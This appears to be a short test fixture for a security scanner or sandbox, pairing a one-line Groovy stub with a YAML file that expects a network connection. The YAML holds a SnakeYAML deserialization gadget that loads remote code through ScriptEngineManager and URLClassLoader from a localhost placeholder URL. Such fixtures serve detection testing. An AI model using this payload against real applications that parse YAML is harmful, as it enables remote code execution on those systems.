// class: include
// source: original (SnakeYAML global tags in a data file)
// expect: connect
def nothing = 1
// ---- gadget.yaml
azure: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:@PORT@/"]]]]
